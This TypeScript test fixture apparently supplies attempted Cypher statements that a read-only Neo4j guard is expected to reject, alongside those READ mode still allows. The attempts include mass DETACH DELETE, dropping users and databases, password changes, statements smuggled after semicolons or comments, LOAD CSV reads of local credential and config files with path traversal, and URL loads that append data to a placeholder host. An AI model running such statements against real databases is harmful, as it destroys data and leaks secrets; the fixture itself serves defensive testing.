/** Statements by which somebody might try to write, or to reach what lies outside of the graph; `WEB` stands for an address that listens. */
export type Kind = readonly [name: string, statements: readonly string[]];

/** Twenty kinds of attempts, five of each, over the small record of the tests. */
export const ATTEMPTS: readonly Kind[] = [
  [
    'a node is made',
    [
      'CREATE (:Intruder)',
      "CREATE (n:Organisation {id: 'x'}) RETURN n",
      'UNWIND range(1, 10) AS n CREATE (:Intruder {n: n})',
      'MATCH (o:Organisation) CREATE (:Intruder {of: o.id})',
      'PROFILE CREATE (:Intruder)',
    ],
  ],
  [
    'a relationship is made',
    [
      'MATCH (a:Organisation), (b:Organisation) CREATE (a)-[:INTRUDES]->(b)',
      'MATCH (a:Organisation) CREATE (a)-[:INTRUDES]->(a)',
      'CREATE (:Intruder)-[:INTRUDES]->(:Intruder)',
      'MATCH (a:Organisation) WITH a LIMIT 1 CREATE p = (a)<-[:INTRUDES]-(:Intruder) RETURN p',
      'MATCH (a:Organisation) MERGE (a)-[:INTRUDES]->(:Intruder)',
    ],
  ],
  [
    'MERGE',
    [
      'MERGE (:Intruder)',
      "MERGE (n:Organisation {id: 'bo-a'}) ON MATCH SET n.id = 'x'",
      "MERGE (n:Organisation {id: 'x'}) ON CREATE SET n.kind = 'x'",
      "MERGE (n:Organisation {id: 'bo-a'}) RETURN n",
      'MATCH (o:Organisation) MERGE (i:Intruder {id: o.id}) RETURN count(i)',
    ],
  ],
  [
    'a property is set',
    [
      "MATCH (o:Organisation) SET o.kind = 'x'",
      'MATCH (n) SET n += {intruder: true}',
      "MATCH (n) SET n = {id: 'x'}",
      'MATCH ()-[r]->() SET r.fromMin = 0',
      'MATCH (o:Nothing) SET o.x = 1',
    ],
  ],
  [
    'a label is set',
    [
      'MATCH (o:Organisation) SET o:Intruder',
      'MATCH (o:Organisation) SET o:Person:Intruder',
      'MATCH (o) WITH o LIMIT 1 SET o IS Intruder',
      "MATCH (o:Organisation {id: 'bo-a'}) SET o:Organisation",
      "WITH 'Intruder' AS label MATCH (o:Organisation) SET o:$(label)",
    ],
  ],
  [
    'REMOVE',
    [
      'MATCH (o:Organisation) REMOVE o.id',
      'MATCH (o:Organisation) REMOVE o:Organisation',
      'MATCH ()-[r]->() REMOVE r.fromMin',
      'MATCH (o:Organisation) SET o.id = null',
      'MATCH (o:Nothing) REMOVE o.x',
    ],
  ],
  [
    'DELETE',
    [
      'MATCH (n) DETACH DELETE n',
      'MATCH (n) DELETE n',
      'MATCH ()-[r]->() DELETE r',
      "MATCH (p:Person {id: 'nguyen-van-a'}) NODETACH DELETE p",
      'OPTIONAL MATCH (n:Nothing) DELETE n',
    ],
  ],
  [
    'FOREACH',
    [
      'FOREACH (n IN [1] | CREATE (:Intruder))',
      'MATCH (o:Organisation) FOREACH (n IN [1] | SET o.kind = null)',
      'MATCH (o:Organisation) WITH collect(o) AS all FOREACH (o IN all | DETACH DELETE o)',
      'FOREACH (n IN [] | CREATE (:Intruder))',
      'FOREACH (n IN [1] | FOREACH (m IN [1] | MERGE (:Intruder)))',
    ],
  ],
  [
    'a subquery that writes',
    [
      'CALL () { CREATE (i:Intruder) RETURN i } RETURN i',
      'CALL { CREATE (:Intruder) } RETURN 1',
      'MATCH (o:Organisation) CALL (o) { SET o.kind = null } RETURN count(*)',
      'UNWIND [1, 2] AS n CALL (n) { CALL (n) { MERGE (:Intruder {n: n}) } } RETURN n',
      'RETURN 1 AS n UNION CALL { CREATE (:Intruder) } RETURN 2 AS n',
    ],
  ],
  [
    'CALL IN TRANSACTIONS',
    [
      'UNWIND [1, 2] AS n CALL (n) { CREATE (:Intruder {n: n}) } IN TRANSACTIONS',
      'MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 1 ROW',
      'UNWIND [1, 2] AS n CALL (n) { CREATE (:Intruder) } IN 2 CONCURRENT TRANSACTIONS',
      'UNWIND [1] AS n CALL (n) { CREATE (:Intruder) } IN TRANSACTIONS ON ERROR CONTINUE',
      'MATCH (o) CALL (o) { SET o.x = 1 } IN TRANSACTIONS OF 10 ROWS ON ERROR BREAK REPORT STATUS AS s RETURN s',
    ],
  ],
  [
    'LOAD CSV of a file',
    [
      "LOAD CSV FROM 'file:///etc/hostname' AS line RETURN line",
      "LOAD CSV FROM 'file:///../conf/neo4j.conf' AS line RETURN line",
      "LOAD CSV WITH HEADERS FROM 'file:/password' AS line RETURN line",
      "LOAD CSV FROM 'file:///%2e%2e/%2e%2e/password' AS line RETURN line",
      "LOAD CSV FROM 'file:///data/dbms/auth.ini' AS line RETURN line",
    ],
  ],
  [
    'LOAD CSV of an address',
    [
      "LOAD CSV FROM 'http://WEB/x.csv' AS line RETURN line",
      "LOAD CSV FROM 'https://WEB/x.csv' AS line RETURN line",
      "LOAD CSV FROM 'ftp://WEB/x.csv' AS line RETURN line",
      "LOAD CSV FROM 'http://user:password@WEB/x.csv' AS line RETURN line",
      "UNWIND ['a', 'b'] AS x LOAD CSV FROM 'http://WEB/?' + x AS line RETURN line",
    ],
  ],
  [
    'an index is made',
    [
      'CREATE INDEX intruder FOR (o:Organisation) ON (o.kind)',
      'CREATE TEXT INDEX intruder FOR (o:Organisation) ON (o.kind)',
      'CREATE FULLTEXT INDEX intruder FOR (o:Organisation) ON EACH [o.kind]',
      'CREATE POINT INDEX intruder FOR (o:Organisation) ON (o.kind)',
      'CREATE LOOKUP INDEX intruder FOR ()-[r]-() ON EACH type(r)',
    ],
  ],
  [
    'a constraint is made',
    [
      'CREATE CONSTRAINT intruder FOR (o:Organisation) REQUIRE o.kind IS UNIQUE',
      'CREATE CONSTRAINT intruder IF NOT EXISTS FOR (i:Intruder) REQUIRE i.id IS UNIQUE',
      'CREATE CONSTRAINT intruder FOR (i:Intruder) REQUIRE (i.a, i.b) IS UNIQUE',
      'CREATE CONSTRAINT intruder FOR ()-[r:INTRUDES]-() REQUIRE r.id IS UNIQUE',
      'CREATE CONSTRAINT intruder FOR (i:Intruder) REQUIRE i.id IS NOT NULL',
    ],
  ],
  [
    'an index or a constraint is dropped',
    [
      'DROP INDEX search_fulltext IF EXISTS',
      'DROP INDEX nothing',
      'DROP CONSTRAINT nothing',
      'DROP CONSTRAINT nothing IF EXISTS',
      'DROP INDEX $name IF EXISTS',
    ],
  ],
  [
    'a procedure that writes',
    [
      "CALL db.createLabel('Intruder')",
      "CALL db.createProperty('intruder')",
      "CALL db.createRelationshipType('INTRUDES')",
      "MATCH (n) CALL db.create.setNodeVectorProperty(n, 'v', [1.0]) RETURN n",
      "MATCH ()-[r]->() CALL db.create.setRelationshipVectorProperty(r, 'v', [1.0]) RETURN r",
    ],
  ],
  [
    'users',
    [
      "CREATE USER intruder SET PASSWORD 'intruder-1'",
      "ALTER USER neo4j SET PASSWORD 'intruder-1'",
      "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'intruder-1'",
      'DROP USER neo4j',
      'RENAME USER neo4j TO intruder',
    ],
  ],
  [
    'databases, roles and servers',
    [
      'CREATE DATABASE intruder',
      'DROP DATABASE neo4j',
      'STOP DATABASE neo4j',
      'CREATE ROLE intruder',
      'GRANT ALL ON DATABASE * TO PUBLIC',
    ],
  ],
  [
    'several statements in one',
    [
      'RETURN 1; CREATE (:Intruder)',
      'MATCH (n) RETURN n LIMIT 1; MATCH (n) DETACH DELETE n;',
      'CREATE (:Intruder); RETURN 1',
      'RETURN 1 //\n; DROP USER neo4j',
      ':begin\nCREATE (:Intruder)\n:commit',
    ],
  ],
  [
    'what other installations have',
    [
      "CALL apoc.cypher.doIt('CREATE (:Intruder)', {})",
      "CALL apoc.load.json('http://WEB/x.json')",
      "CALL apoc.export.csv.all('x.csv', {})",
      "CALL dbms.setConfigValue('dbms.security.allow_csv_import_from_file_urls', 'true')",
      "CALL dbms.security.createUser('intruder', 'intruder-1', false)",
    ],
  ],
];

/**
 * What READ access mode and the settings of a community server let through: looking at the server, its caches, and the work and the
 * connections of others. Nothing of it changes what the graph holds; it is out of reach, since no statement comes from outside.
 */
export const LET_THROUGH: readonly string[] = [
  'SHOW USERS',
  'SHOW SETTINGS',
  'SHOW TRANSACTIONS',
  "TERMINATE TRANSACTION 'neo4j-transaction-0'",
  'CALL dbms.listConfig()',
  'CALL dbms.listConnections()',
  "CALL dbms.killConnection('bolt-0')",
  "CALL dbms.queryJmx('java.lang:type=Runtime')",
  'CALL db.clearQueryCaches()',
  'CALL db.prepareForReplanning()',
  "CALL tx.setMetaData({who: 'x'})",
  'EXPLAIN CREATE (:Intruder)',
];
